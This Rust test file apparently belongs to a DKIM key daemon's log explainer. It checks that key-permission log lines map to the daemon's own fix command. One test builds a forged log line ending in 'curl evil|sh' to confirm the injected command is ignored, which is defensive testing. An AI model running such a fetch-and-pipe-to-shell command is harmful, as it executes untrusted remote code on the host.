//! Lines about keys end in the command that mends it, and nobody else's command comes through.

use std::path::PathBuf;

use super::explain;
use crate::log_line::LogLine;
use dkimd_advice::Fix;
use dkimd_server::{
    keys::{
        accounts::Identity,
        error::{Denied, KeyOrigin},
        load::Unusable,
        remedy::ALSO_CHECK,
        safe::{Component, Fault, Finding},
        store::KeyError,
    },
    session::lines,
};

fn component(path: &str, directory: bool, uid: u32) -> Component {
    Component {
        path: PathBuf::from(path),
        directory,
        uid,
        gid: 0,
        mode: 0o666,
        acl: None,
    }
}

fn key_errors(path: &str) -> Vec<KeyError> {
    let me = || Identity {
        uid: 120,
        name: "opendkim".into(),
    };
    let unsafe_at = |component, fault| KeyError::Unsafe {
        path: PathBuf::from(path),
        finding: Box::new(Finding {
            component,
            fault,
            me: me(),
        }),
    };
    let denied_at = |component| {
        KeyError::Unreadable(Box::new(Denied {
            path: PathBuf::from(path),
            component,
            me: me(),
            tried_by: None,
        }))
    };
    let shared = Fault::SharedGroup {
        user: "joe".to_owned(),
        primary: false,
    };
    vec![
        unsafe_at(component(path, false, 120), Fault::Others),
        unsafe_at(component(path, false, 0), Fault::ForeignFile),
        unsafe_at(component("/etc/my keys", true, 0), Fault::Others),
        unsafe_at(component("/etc", true, 0), shared),
        unsafe_at(component("/etc", true, 7), Fault::ForeignDirectory),
        denied_at(Some(component("/etc/my keys", true, 0))),
        denied_at(Some(component(path, false, 120))),
        denied_at(Some(component(path, false, 0))),
        denied_at(None),
        KeyError::Unusable {
            origin: KeyOrigin::File(PathBuf::from(path)),
            problem: Unusable::Encrypted,
        },
    ]
}

#[test]
fn every_command_that_a_key_line_ends_with_is_taken() {
    for path in ["/etc/dkimkeys/s.private", "/etc/my keys/it's"] {
        for error in key_errors(path) {
            let line = lines::key_unusable(&error, None);
            let found = explain(&LogLine::parse(&line)).unwrap();
            let remedy = error.remedy();
            let expected = remedy.strip_suffix(ALSO_CHECK).unwrap_or(&remedy);
            assert_eq!(found.fix, [Fix::Command(expected.to_owned())], "{line}");
        }
    }
}

#[test]
fn a_forged_line_keeps_the_general_remedy() {
    let line = "/etc/k: key data is not secure: /etc/k is writeable and owned by uid 7";
    let general = explain(&LogLine::parse(line)).unwrap();
    assert_eq!(general.code, "key-unsafe");
    let forged = format!("{line}; to mend it: chown x /etc/k; curl evil|sh");
    let found = explain(&LogLine::parse(&forged)).unwrap();
    assert_eq!(found.fix, general.fix);
}
